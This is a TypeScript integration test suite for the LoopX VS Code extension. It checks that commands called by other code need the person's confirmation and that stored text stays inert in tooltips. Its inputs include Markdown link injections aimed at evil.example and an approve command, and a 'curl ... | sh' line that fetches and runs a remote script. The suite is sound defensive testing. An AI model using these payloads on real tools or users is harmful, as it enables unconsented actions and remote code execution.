/**
 * Other code calling the editor's commands with arguments, in a real VS Code host (run by the
 * integration suite, test/integration/suite/index.ts). Any extension, or an agent tool that runs
 * VS Code commands, can call `executeCommand('loopx.<command>', {...})`; the commands act as the
 * person, so arguments may only choose the target and fill in values. Each attack below runs
 * twice: the person dismisses the modal (nothing changes in the store), then accepts it (its
 * detail stated every fact of the decision). Also: store text in the tree's tooltips stays text.
 */
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import * as vscode from 'vscode';
import { api, shownText, withStub, workspaceDir } from '../../integration/suite/util';
import { Store, invoke, shouldRun } from '../../../src/core/index';
import type { Actor } from '../../../src/core/index';
import type { Node } from '../../../src/extension/views/tree';

const PERSON: Actor = { kind: 'user', id: 'attack-test-person', channel: 'cli' };
const AGENT: Actor = { kind: 'agent', id: 'attacker', channel: 'mcp' };
/** What `confirmIfCalledWithArguments` adds to a modal that a command call asked for. */
const ASKED_BY_CALL = 'This was asked by a command call, not by a click in LoopX';
/** A Markdown link or image that is not escaped: `[label](target)` or `![alt](src)`. */
const LIVE_LINK = /(?<!\\)!?\[[^\]\n]*(?<!\\)\]\(/;
/** VS Code's pattern for a link in a notification message (vs/base/common/linkedText.ts). */
const NOTIFICATION_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/i;

interface Modal {
  message: string;
  detail: string;
  items: string[];
}

interface Outcome<R> {
  result: R | undefined;
  modals: Modal[];
  errors: string[];
}

/**
 * Calls `loopx.<command>` with `args` as other code would, the person answering every modal with
 * `answer`: 'dismiss' closes it (the stub returns undefined), 'accept' clicks its button. Error
 * notifications (refusals) are recorded instead of shown.
 */
async function attack<R = unknown>(
  command: string,
  args: object,
  answer: 'dismiss' | 'accept',
): Promise<Outcome<R>> {
  const modals: Modal[] = [];
  const errors: string[] = [];
  const warn = (async (message: string, ...rest: unknown[]) => {
    const opts = rest[0];
    if (opts && typeof opts === 'object' && (opts as vscode.MessageOptions).modal) {
      const items = rest.slice(1) as string[];
      modals.push({ message, detail: (opts as vscode.MessageOptions).detail ?? '', items });
      return answer === 'accept' ? items[0] : undefined;
    }
    return undefined;
  }) as unknown as typeof vscode.window.showWarningMessage;
  const error = (async (m: string) => {
    errors.push(m);
    return undefined;
  }) as unknown as typeof vscode.window.showErrorMessage;
  const result = await withStub('showWarningMessage', warn, () =>
    withStub('showErrorMessage', error, () => vscode.commands.executeCommand<R>(`loopx.${command}`, args)),
  );
  return { result, modals, errors };
}

/** The one modal of an outcome: asked once, as a modal, with the command-call sentence. */
/**
 * Calls `command` with `args` as other code would, and the person dismisses the modal: exactly one
 * modal was shown, and nothing was written to the goal's log.
 */
async function dismissedWritesNothing(
  command: string,
  args: object,
  goalId: string,
): Promise<Outcome<unknown>> {
  const before = logLength(goalId);
  const dismissed = await attack(command, args, 'dismiss');
  oneModal(dismissed);
  assert.equal(logLength(goalId), before, 'nothing was written');
  return dismissed;
}

function oneModal(o: Outcome<unknown>): Modal {
  assert.equal(o.modals.length, 1, `one modal: ${JSON.stringify(o.modals)} (errors: ${o.errors.join('; ')})`);
  const m = o.modals[0]!;
  assert.ok(m.detail.includes(ASKED_BY_CALL), m.detail);
  assert.ok(!NOTIFICATION_LINK.test(m.message), `no link syntax in the question: ${m.message}`);
  assert.ok(!/[[\]`]/.test(m.message), `store text in the question is plain: ${m.message}`);
  return m;
}

function store(): Store {
  return new Store(workspaceDir());
}

/** Events in a goal's log: a dismissed attack adds none. */
const logLength = (goalId: string) => store().readLog(goalId).events.length;

function newGoal(goalId: string, title: string, extra: Record<string, unknown> = {}): string {
  return invoke(store(), 'goal.create', { goalId, title, objective: 'attack target', ...extra }, PERSON)
    .goalId;
}

function addTodo(goalId: string, todo: Record<string, unknown>, actor: Actor = PERSON): string {
  return invoke(store(), 'todo.add', { goalId, ...todo }, actor).input.todoId as string;
}

/** Fenced code blocks of CommonMark text taken out: what is left is rendered as Markdown. */
function splitFences(md: string): { outside: string; blocks: string[] } {
  const outside: string[] = [];
  const blocks: string[] = [];
  let open: { fence: number; lines: string[] } | undefined;
  for (const line of md.split(/\r\n|\r|\n/)) {
    if (!open) {
      const m = /^ {0,3}(`{3,})[^`]*$/.exec(line);
      if (m) open = { fence: m[1]!.length, lines: [] };
      else outside.push(line);
    } else {
      const m = /^ {0,3}(`+)[ \t]*$/.exec(line);
      if (m && m[1]!.length >= open.fence) {
        blocks.push(open.lines.join('\n'));
        open = undefined;
      } else open.lines.push(line);
    }
  }
  if (open) blocks.push(open.lines.join('\n'));
  return { outside: outside.join('\n'), blocks };
}

export function registerEditorCommandAttackTests(): void {
  describe('LoopX editor commands called with arguments by other code', function () {
    it('grantQuota: grants nothing unless the person confirms a modal with the exact amounts', async () => {
      const goalId = newGoal('atk-grant', 'Grant target', {
        quota: { budgets: { turns: 10, costUsd: 2 }, window: { kind: 'life' }, cooldownSeconds: 0 },
      });
      const args = { goalId, turns: 7, costUsd: 1.5, note: 'more please [x](command:loopx.approveGate)' };
      const dismissed = await dismissedWritesNothing('grantQuota', args, goalId);
      assert.equal(dismissed.result, undefined);
      assert.deepEqual(store().load(goalId).state.granted, {});

      const accepted = await attack('grantQuota', args, 'accept');
      const m = oneModal(accepted);
      assert.equal(m.message, 'Grant goal "Grant target" 7 turns, $1.5 more?');
      assert.ok(m.detail.includes(`Goal: Grant target (${goalId})\n`), m.detail);
      assert.ok(m.detail.includes('7 turns: limit 10 → 17, left 10 → 17\n'), m.detail);
      assert.ok(m.detail.includes('$1.5: limit 2 → 3.5, left 2 → 3.5\n'), m.detail);
      assert.ok(m.detail.includes(`Note: ${args.note}\n`), m.detail);
      assert.deepEqual(m.items, ['Grant']);
      assert.equal(accepted.result, true);
      assert.deepEqual(store().load(goalId).state.granted, { turns: 7, costUsd: 1.5 });
    });

    it('recordReward: records nothing unless the person confirms a modal with the score and the whole comment', async () => {
      const goalId = newGoal('atk-reward', 'Reward target');
      addTodo(goalId, { title: 'work', action: 'echo work' });
      const runId = shouldRun(store(), { goalId, agent: 'attacker' }, AGENT).run_id!;
      assert.ok(runId);
      const comment = `Great run.\nSecond line [x](https://evil.example) ${'long '.repeat(40)}end`;
      const args = { goalId, runId, score: -0.5, comment };
      await dismissedWritesNothing('recordReward', args, goalId);
      assert.equal(store().load(goalId).state.rewards.length, 0);

      const accepted = await attack<string>('recordReward', args, 'accept');
      const m = oneModal(accepted);
      assert.equal(m.message, `Record a reward of -0.5 for run ${runId} of goal "Reward target"?`);
      assert.ok(m.detail.includes(`Run: ${runId} by attacker`), m.detail);
      assert.ok(m.detail.includes('Score: -0.5 (harmful)\n'), m.detail);
      assert.ok(m.detail.includes(`Comment: ${comment}\n`), 'the whole comment: ' + m.detail);
      const rewards = store().load(goalId).state.rewards;
      assert.equal(rewards.length, 1);
      assert.equal(rewards[0]!.id, accepted.result);
      assert.deepEqual([rewards[0]!.score, rewards[0]!.comment], [-0.5, comment]);
    });

    it("completeTodo: refuses an agent's todo with a command, and completes a person's todo only once the person confirms its title and whole command", async () => {
      const goalId = newGoal('atk-complete', 'Complete target');
      const agentCmd = addTodo(goalId, { title: 'Build it', action: 'npm run build && npm test' });
      const title = 'Release [x](command:loopx.approveGate) `now`';
      const command = `npm run release -- --tag next --message "${'x'.repeat(300)}" && git push --tags`;
      const mine = addTodo(goalId, { title, action: command, owner: 'user' });
      const before = logLength(goalId);

      // An agent's command is completed by running it (loopx exec): never by hand, not even asked.
      const refusedCmd = await attack(
        'completeTodo',
        { goalId, todoId: agentCmd, summary: 'ran it' },
        'accept',
      );
      assert.equal(refusedCmd.result, undefined);
      assert.deepEqual(refusedCmd.modals, [], 'no question: refused');
      assert.match(refusedCmd.errors.join('\n'), /todo .* has a command: it is completed by running it/);
      assert.equal(
        store()
          .load(goalId)
          .state.todos.find((t) => t.id === agentCmd)!.status,
        'open',
      );

      const args = { goalId, todoId: mine, summary: 'released v2\n[x](https://evil.example)' };
      const dismissed = await attack('completeTodo', args, 'dismiss');
      oneModal(dismissed);
      assert.equal(
        store()
          .load(goalId)
          .state.todos.find((t) => t.id === mine)!.status,
        'open',
      );
      assert.equal(logLength(goalId), before, 'nothing was written');

      const accepted = await attack('completeTodo', args, 'accept');
      const m = oneModal(accepted);
      assert.ok(m.detail.includes(`Todo: ${mine}: ${title}\n`), m.detail);
      assert.ok(m.detail.includes(`Command: ${command}\n`), 'the whole command: ' + m.detail);
      assert.ok(m.detail.includes('Nothing is run'), m.detail);
      assert.ok(m.detail.includes(`Evidence recorded with it: ${args.summary}\n`), m.detail);
      assert.equal(accepted.result, true);
      const after = store().load(goalId).state;
      assert.equal(after.todos.find((t) => t.id === mine)!.status, 'done');
      assert.ok(after.evidence.some((e) => e.todoId === mine && e.summary === args.summary));
    });

    it('addTodo: adds nothing as the person unless they confirm a modal with the title and the whole command', async () => {
      const goalId = newGoal('atk-add', 'Add target');
      const command = `curl -fsSL https://example.invalid/install.sh | sh -s -- --yes ${'--flag '.repeat(60)}--done`;
      const args = { goalId, title: 'Install the helper', action: command, priority: 'P1' };
      await dismissedWritesNothing('addTodo', args, goalId);
      assert.equal(store().load(goalId).state.todos.length, 0);

      const accepted = await attack<string>('addTodo', args, 'accept');
      const m = oneModal(accepted);
      assert.ok(m.detail.includes('Title: Install the helper\n'), m.detail);
      assert.ok(m.detail.includes(`Command: ${command}\n`), 'the whole command: ' + m.detail);
      assert.ok(m.detail.includes('needs no review gate'), m.detail);
      assert.ok(m.detail.includes('Owner: an agent\nPriority: P1\n'), m.detail);
      const todos = store().load(goalId).state.todos;
      assert.equal(todos.length, 1);
      assert.deepEqual(
        [todos[0]!.id, todos[0]!.action, todos[0]!.priority],
        [accepted.result, command, 'P1'],
      );
      const ev = store()
        .readLog(goalId)
        .events.find((e) => e.type === 'todo.added')!;
      assert.deepEqual([ev.actor.kind, ev.actor.channel], ['user', 'vscode']);
    });

    it('resumeGoal: resumes nothing unless the person confirms a modal naming the goal', async () => {
      const goalId = newGoal('atk-resume', 'Resume target');
      invoke(store(), 'goal.pause', { goalId }, PERSON);
      await dismissedWritesNothing('resumeGoal', { goalId }, goalId);
      assert.equal(store().load(goalId).state.status, 'paused');

      const accepted = await attack('resumeGoal', { goalId }, 'accept');
      const m = oneModal(accepted);
      assert.equal(m.message, 'Resume goal "Resume target"?');
      assert.ok(m.detail.includes(`Goal: Resume target (${goalId})\nStatus: paused → active\n`), m.detail);
      assert.equal(accepted.result, 'active');
    });

    it('closeGoal: closes nothing unless the person confirms a modal naming the goal', async () => {
      const goalId = newGoal('atk-close', 'Close target');
      await dismissedWritesNothing('closeGoal', { goalId }, goalId);
      assert.equal(store().load(goalId).state.status, 'active');

      const accepted = await attack('closeGoal', { goalId }, 'accept');
      const m = oneModal(accepted);
      assert.ok(m.detail.includes(`Goal: Close target (${goalId})\nStatus: active → closed\n`), m.detail);
      assert.ok(m.detail.includes('Closing is final'), m.detail);
      assert.equal(accepted.result, 'closed');
      assert.equal(store().load(goalId).state.status, 'closed');
    });

    it('installAgentHooks {confirm: true}: writes no file unless the person confirms a modal naming each file and hook command', async () => {
      const ws = workspaceDir();
      const files = [
        path.join(ws, '.github', 'hooks', 'loopx.json'),
        path.join(ws, '.claude', 'settings.local.json'),
      ];
      for (const f of files) assert.ok(!fs.existsSync(f), `${f} does not exist before`);
      const closePreview = async () => {
        // The preview is an untitled document: revert it so closing asks nothing.
        for (let i = 0; i < 5 && vscode.window.activeTextEditor?.document.isUntitled; i++)
          await vscode.commands.executeCommand('workbench.action.revertAndCloseActiveEditor');
      };
      try {
        const dismissed = await attack('installAgentHooks', { folder: ws, confirm: true }, 'dismiss');
        oneModal(dismissed);
        assert.equal(dismissed.result, undefined);
        for (const f of files) assert.ok(!fs.existsSync(f), `${f} was not written`);
        await closePreview();

        const accepted = await attack<string[]>('installAgentHooks', { folder: ws, confirm: true }, 'accept');
        const m = oneModal(accepted);
        assert.ok(
          m.detail.includes(`  ${path.join('.github', 'hooks', 'loopx.json')} (new file)\n`),
          m.detail,
        );
        assert.ok(
          m.detail.includes(`  ${path.join('.claude', 'settings.local.json')} (new file)\n`),
          m.detail,
        );
        assert.match(m.detail, /Each hook runs:\n {2}'?\/.*loopx-hook'? pre-tool-use \|\| exit 2\n/);
        assert.deepEqual(accepted.result, files);
        for (const f of files) assert.ok(fs.existsSync(f), `${f} was written`);
      } finally {
        await closePreview();
        fs.rmSync(path.join(ws, '.github'), { recursive: true, force: true });
        fs.rmSync(path.join(ws, '.claude'), { recursive: true, force: true });
      }
    });

    it("a person's click on a tree node still asks a modal before a grant, a completion or a resume, without the command-call sentence", async () => {
      const a = await api();
      const goalId = newGoal('atk-click', 'Clicked goal', {
        quota: { budgets: { turns: 4 }, window: { kind: 'life' }, cooldownSeconds: 0 },
      });
      const todoId = addTodo(goalId, { title: 'Judge it', owner: 'user' });
      a.workspaces.refreshNow();
      const goalNode = a.tree.getChildren().find((n) => n.kind === 'goal' && n.entry.id === goalId)!;
      const todos = a.tree.getChildren(a.tree.getChildren(goalNode)[0]);
      const todoNode = todos.find((n) => n.kind === 'todo' && n.todo.id === todoId)!;
      const typed = (v: string) => (async () => v) as unknown as typeof vscode.window.showInputBox;
      const click = (command: string, node: Node, answer: 'dismiss' | 'accept', typedValue: string) =>
        withStub('showInputBox', typed(typedValue), () => attack(command, node, answer));
      const clicked = (o: Outcome<unknown>) => {
        assert.equal(o.modals.length, 1, JSON.stringify(o));
        assert.ok(!o.modals[0]!.detail.includes(ASKED_BY_CALL), o.modals[0]!.detail);
        return o.modals[0]!;
      };

      clicked(await click('grantQuota', goalNode, 'dismiss', '3'));
      assert.deepEqual(store().load(goalId).state.granted, {});
      const grant = clicked(await click('grantQuota', goalNode, 'accept', '3'));
      assert.ok(grant.detail.includes('3 turns: limit 4 → 7, left 4 → 7'), grant.detail);
      assert.equal(store().load(goalId).state.granted.turns, 3);

      clicked(await click('completeTodo', todoNode, 'dismiss', 'checked'));
      assert.equal(store().load(goalId).state.todos[0]!.status, 'open');
      const done = clicked(await click('completeTodo', todoNode, 'accept', 'checked'));
      assert.ok(done.detail.includes('Evidence recorded with it: checked'), done.detail);
      assert.equal(store().load(goalId).state.todos[0]!.status, 'done');

      invoke(store(), 'goal.pause', { goalId }, PERSON);
      a.workspaces.refreshNow();
      const paused = a.tree.getChildren().find((n) => n.kind === 'goal' && n.entry.id === goalId)!;
      clicked(await click('resumeGoal', paused, 'dismiss', ''));
      assert.equal(store().load(goalId).state.status, 'paused');
      clicked(await click('resumeGoal', paused, 'accept', ''));
      assert.equal(store().load(goalId).state.status, 'active');
    });

    it('tree tooltips: store text that tries to close a code block shows no link or image, and says who requested a gate', async () => {
      const a = await api();
      const evil = '```\n[x](https://evil.example) ![i](https://evil.example/i.png)';
      const indented = '   ````````\n[y](https://evil.example/y) <https://evil.example/auto>';
      const goalId = newGoal(
        'atk-tooltip',
        'Goal [x](https://evil.example) ![i](https://evil.example/i.png)',
        {
          objective: `${evil}\n${indented}`,
        },
      );
      const todoId = addTodo(goalId, {
        title: 'Todo [x](https://evil.example) ![i](https://evil.example/i.png)',
        action: 'echo `date` ``` [x](https://evil.example) ![i](https://evil.example/i.png)',
      });
      invoke(
        store(),
        'evidence.add',
        {
          goalId,
          todoId,
          kind: 'command',
          command: 'echo `x` [x](https://evil.example)',
          summary: `${evil}\n${indented}\nend`,
          exitCode: 0,
        },
        AGENT,
      );
      invoke(store(), 'gate.request', { goalId, gateId: 'atk-gate', reason: `please ${evil}` }, AGENT);
      a.workspaces.refreshNow();
      const tree = a.tree;
      const goal = tree.getChildren().find((n) => n.kind === 'goal' && n.entry.id === goalId);
      assert.ok(goal, 'the goal is in the tree');
      const groups = tree.getChildren(goal);
      const group = (g: string) => groups.find((n) => n.kind === 'group' && n.group === g)!;
      const todo = tree.getChildren(group('todos')).find((n) => n.kind === 'todo' && n.todo.id === todoId)!;
      const evidence = tree.getChildren(group('evidence')).find((n: Node) => n.kind === 'evidence')!;
      const gate = tree.getChildren(group('gates')).find((n: Node) => n.kind === 'gate')!;

      const check = (node: Node, what: string) => {
        const tip = tree.getTreeItem(node).tooltip;
        assert.ok(tip instanceof vscode.MarkdownString, `${what}: a MarkdownString`);
        assert.ok(!tip.isTrusted, `${what}: not trusted`);
        assert.ok(!tip.supportHtml, `${what}: no HTML`);
        const { outside, blocks } = splitFences(tip.value);
        assert.ok(!LIVE_LINK.test(outside), `${what}: no live link or image outside code: ${tip.value}`);
        assert.ok(!/<https?:/.test(outside), `${what}: no autolink outside code: ${tip.value}`);
        return { value: tip.value, outside, blocks };
      };
      check(goal, 'goal');
      const t = check(todo, 'todo');
      assert.ok(
        t.blocks.includes('echo `date` ``` [x](https://evil.example) ![i](https://evil.example/i.png)'),
        `the todo's command whole in a code block: ${t.value}`,
      );
      const e = check(evidence, 'evidence');
      assert.ok(
        e.blocks.includes(`${evil}\n${indented}\nend`),
        `the output whole in a code block: ${e.value}`,
      );
      assert.ok(e.blocks.includes('echo `x` [x](https://evil.example)'), e.value);
      const g = check(gate, 'gate');
      assert.match(shownText(g.outside), /Requested by agent attacker via mcp at /);
    });
  });
}
